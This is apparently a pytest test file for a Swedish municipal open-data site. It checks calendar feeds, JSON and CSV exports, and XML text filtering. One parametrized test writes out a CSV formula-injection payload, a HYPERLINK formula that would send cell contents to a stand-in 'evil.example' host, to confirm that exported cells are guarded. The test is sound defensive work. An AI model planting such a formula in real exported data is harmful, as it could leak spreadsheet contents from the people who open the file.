"""The open data files parse back and carry what the site promises."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import icalendar
import pytest

from okide.addresses import SiteSettings
from okide.clock import STOCKHOLM
from okide.exports import PARTY_CSV_COLUMNS, one_line, render_exports
from okide.load import load_register
from okide.markdown import plain_text
from okide.models import Contact, Register
from tests.conftest import SMALL, TODAY

SITE = SiteSettings(site_url="https://exempelby.example.org/ok/")
V1_PARTY_FIELDS = {
    "name", "form", "signed", "left", "org_number", "website", "description", "areas", "contact",
}  # fmt: skip


@pytest.fixture(scope="module")
def exports() -> dict[str, bytes]:
    register = load_register(SMALL, TODAY)
    assert isinstance(register, Register)
    return render_exports(register, SITE, TODAY)


def _events(data: bytes) -> list[icalendar.Event]:
    return list(icalendar.Calendar.from_ical(data).walk("VEVENT"))


def test_calendar_feed_parses_and_holds_every_dialogue(exports: dict[str, bytes]) -> None:
    events = _events(exports["stordialoger.ics"])
    assert [str(e["uid"]) for e in events] == [
        "stordialog-2025-ensamhet@exempelby.example.org",
        "stordialog-2026-installt@exempelby.example.org",
        "stordialog-2027-fritid@exempelby.example.org",
    ]


def test_calendar_times_are_in_stockholm_with_a_vtimezone(exports: dict[str, bytes]) -> None:
    calendar = icalendar.Calendar.from_ical(exports["stordialoger.ics"])
    zones = [str(tz["tzid"]) for tz in calendar.walk("VTIMEZONE")]
    assert zones == ["Europe/Stockholm"]
    event = _events(exports["stordialoger.ics"])[2]
    assert event["dtstart"].params["TZID"] == "Europe/Stockholm"
    assert event.decoded("dtstart") == datetime(2027, 3, 16, 17, 30, tzinfo=STOCKHOLM)
    assert event.decoded("dtend") == datetime(2027, 3, 16, 20, 0, tzinfo=STOCKHOLM)


def test_an_explicit_utc_offset_is_converted_to_stockholm_time(exports: dict[str, bytes]) -> None:
    event = _events(exports["stordialoger.ics"])[1]
    assert event.decoded("dtend").astimezone(STOCKHOLM).hour == 12


def test_cancelled_dialogue_is_cancelled_in_the_calendar(exports: dict[str, bytes]) -> None:
    event = _events(exports["stordialoger.ics"])[1]
    assert str(event["status"]) == "CANCELLED"


def test_without_a_build_instant_dtstamp_is_the_start_of_the_build_day(
    exports: dict[str, bytes],
) -> None:
    # Never after the build (tests/test_calendar.py has the build's own instant).
    for event in _events(exports["stordialoger.ics"]):
        assert event.decoded("dtstamp") == datetime(2026, 11, 22, tzinfo=STOCKHOLM)


def test_each_dialogue_has_its_own_calendar_file(exports: dict[str, bytes]) -> None:
    single = _events(exports["stordialoger/2027-fritid.ics"])
    assert [str(e["uid"]) for e in single] == ["stordialog-2027-fritid@exempelby.example.org"]


def test_parties_json_has_v1_fields_plus_id_and_url(exports: dict[str, bytes]) -> None:
    parties = json.loads(exports["data/parter.json"])["parties"]
    assert [p["id"] for p in parties] == [
        "alfa-idrottsforening", "beta-stiftelsen", "gamma-natverket", "no",
    ]  # fmt: skip
    for party in parties:
        assert set(party) == V1_PARTY_FIELDS | {"id", "url"}
    alfa = parties[0]
    assert alfa["org_number"] == "802400-0005"
    assert alfa["signed"] == "2020-03-01"
    assert alfa["url"] == "https://exempelby.example.org/ok/parter/alfa-idrottsforening/"
    assert parties[3]["name"] == "NO"


def test_dialogues_json_has_times_with_offsets(exports: dict[str, bytes]) -> None:
    dialogues = json.loads(exports["data/stordialoger.json"])["dialogues"]
    fritid = next(d for d in dialogues if d["id"] == "2027-fritid")
    assert fritid["start"] == "2027-03-16T17:30:00+01:00"
    assert fritid["hosts"] == ["alfa-idrottsforening", "beta-stiftelsen"]
    assert fritid["url"] == "https://exempelby.example.org/ok/stordialoger/2027-fritid/"


def test_parties_csv_is_utf8_with_a_header_row(exports: dict[str, bytes]) -> None:
    rows = list(csv.DictReader(io.StringIO(exports["data/parter.csv"].decode("utf-8"))))
    assert tuple(rows[0]) == PARTY_CSV_COLUMNS
    beta = next(r for r in rows if r["id"] == "beta-stiftelsen")
    assert beta["areas"] == "trygghet;fritid-och-kultur"
    assert next(r for r in rows if r["id"] == "gamma-natverket")["left"] == "2023-12-31"


def test_organizer_is_the_public_party_by_e_mail_or_left_out_without_one() -> None:
    register = load_register(SMALL, TODAY)
    assert isinstance(register, Register)
    event = _events(render_exports(register, SITE, TODAY)["stordialoger.ics"])[0]
    assert str(event["organizer"]) == "mailto:ok@exempelby.example.org"
    assert event["organizer"].params["CN"] == "Exempelby kommun"
    agreement = register.agreement
    contact = agreement.contact.model_copy(update={"email": None})
    no_email = register.model_copy(
        update={"agreement": agreement.model_copy(update={"contact": contact})}
    )
    feed = render_exports(no_email, SITE, TODAY)["stordialoger.ics"]
    assert b"ORGANIZER" not in feed
    assert all("organizer" not in event for event in _events(feed))


def test_subscribers_are_asked_to_refresh_the_calendar_daily(exports: dict[str, bytes]) -> None:
    calendar = icalendar.Calendar.from_ical(exports["stordialoger.ics"])
    assert calendar.decoded("refresh-interval") == timedelta(days=1)
    assert str(calendar["x-published-ttl"]) == "P1D"


def test_feed_drops_exactly_the_characters_xml_does_not_allow() -> None:
    """XML 1.0's Char production, checked for every code point against the feed's filter."""
    from okide.feed import xml_text

    def allowed(code: int) -> bool:
        return (
            code in (0x9, 0xA, 0xD)
            or 0x20 <= code <= 0xD7FF
            or 0xE000 <= code <= 0xFFFD
            or (0x10000 <= code <= 0x10FFFF)
        )

    text = "".join(map(chr, range(0x110000)))
    kept = xml_text(text)
    assert isinstance(kept, str)
    assert kept == "".join(char for char in text if allowed(ord(char)))


HOSTILE_STARTS = ["=", "+", "-", "@", "\t", "\r"]


def _party_with(register: Register, party_id: str, **fields: Any) -> Register:
    """The register with one party's fields replaced, unvalidated: what a rule might let by."""
    party = register.signatories[party_id]
    contact_fields = {k: fields.pop(k) for k in ("email", "phone", "url") if k in fields}
    if contact_fields:
        contact = party.contact or Contact(email="a@b.se")
        fields["contact"] = contact.model_copy(update=contact_fields)
    changed = party.model_copy(update=fields)
    return register.model_copy(update={"signatories": {**register.signatories, party_id: changed}})


def _csv_rows(register: Register) -> list[dict[str, str]]:
    data = render_exports(register, SITE, TODAY)["data/parter.csv"].decode("utf-8")
    return list(csv.DictReader(io.StringIO(data, newline="")))


@pytest.mark.parametrize("start", HOSTILE_STARTS, ids=["eq", "plus", "minus", "at", "tab", "cr"])
@pytest.mark.parametrize(
    "column", ["name", "description", "website", "org_number", "email", "phone", "url"]
)
def test_csv_cell_that_a_spreadsheet_would_run_as_a_formula_starts_with_an_apostrophe(
    fixture_register: Register, start: str, column: str
) -> None:
    hostile = f'{start}HYPERLINK("https://evil.example/?"&A1;"Klicka")'
    register = _party_with(fixture_register, "no", **{column: hostile})
    row = next(r for r in _csv_rows(register) if r["id"] == "no")
    csv_column = f"contact_{column}" if column in ("email", "phone", "url") else column
    # The description is written as plain text; every cell on one line without blanks at its
    # ends, and then guarded: a tab or a line break before the text is gone, not guarded.
    written = one_line(plain_text(hostile) if column == "description" else hostile)
    guarded = written.startswith(tuple(HOSTILE_STARTS))
    assert row[csv_column] == ("'" + written if guarded else written)
    assert all(not cell.startswith(tuple(HOSTILE_STARTS)) for cell in row.values())


def test_csv_keeps_cells_that_do_not_start_like_a_formula(fixture_register: Register) -> None:
    text = "Idrott för alla = glädje, +1 -2 @alla"
    register = _party_with(fixture_register, "no", description=text, phone="0522-69 60 00")
    row = next(r for r in _csv_rows(register) if r["id"] == "no")
    assert (row["description"], row["contact_phone"]) == (text, "0522-69 60 00")


def test_json_keeps_the_exact_text_of_a_cell_the_csv_guards(fixture_register: Register) -> None:
    register = _party_with(fixture_register, "no", description="=1+1", phone="+46 522 69 60 00")
    parties = json.loads(render_exports(register, SITE, TODAY)["data/parter.json"])["parties"]
    party = next(p for p in parties if p["id"] == "no")
    assert (party["description"], party["contact"]["phone"]) == ("=1+1", "+46 522 69 60 00")


def _vevent(path: Path) -> tuple[object, list[str]]:
    import icalendar

    calendar = icalendar.Calendar.from_ical(path.read_bytes())
    (event,) = calendar.walk("VEVENT")
    return event, [str(zone["tzid"]) for zone in calendar.walk("VTIMEZONE")]


@pytest.mark.slow
def test_add_to_calendar_link_gives_the_same_event_as_the_subscription(
    fixture_site: Path, register: Register
) -> None:
    import icalendar

    whole = icalendar.Calendar.from_ical((fixture_site / "stordialoger.ics").read_bytes())
    subscribed = {str(event["uid"]): event for event in whole.walk("VEVENT")}
    for dialogue in register.dialogues.values():
        page = fixture_site / "stordialoger" / dialogue.id / "index.html"
        links = re.findall(r'<a class="md-button" href="([^"]+\.ics)"', page.read_text("utf-8"))
        if dialogue.status == "cancelled" or not dialogue.is_upcoming(TODAY):
            # Nothing to add: subscribers see the cancellation, and a past meeting is over.
            assert links == []
        else:
            assert links == [f"../{dialogue.id}.ics"]
        event, zones = _vevent(fixture_site / "stordialoger" / f"{dialogue.id}.ics")
        assert zones == ["Europe/Stockholm"]
        assert event["dtstart"].params["TZID"] == "Europe/Stockholm"  # type: ignore[index]
        same = subscribed[str(event["uid"])]  # type: ignore[index]
        assert event.to_ical() == same.to_ical()  # type: ignore[attr-defined]
        cancelled = dialogue.status == "cancelled"
        assert str(event["status"]) == ("CANCELLED" if cancelled else "CONFIRMED")  # type: ignore[index]


@pytest.mark.parametrize(
    "text",
    ["Ett namn", "  mellanslag runt  ", "rad 1\nrad 2", "a\r\nb", "a\u2028b", "a\u2029b",
     "a\x85b", "a\x0bb\x0cc", "a\x1cb\x1dc\x1ed", "tabb\tmitt i", "\u00a0hårt mellanslag\u00a0",
     "\u3000ideografiskt\u3000", "=formel\n", "\n\n", "", " ", "\t=1+1"],
)  # fmt: skip
def test_one_line_folds_every_line_break_python_knows_and_the_blanks_at_the_ends(
    text: str,
) -> None:
    """The quick way for text without line breaks gives what the line-by-line way gives."""
    expected = " ".join(line.strip() for line in text.splitlines() if line.strip())
    assert one_line(text) == expected
    assert len(one_line(text).splitlines()) <= 1
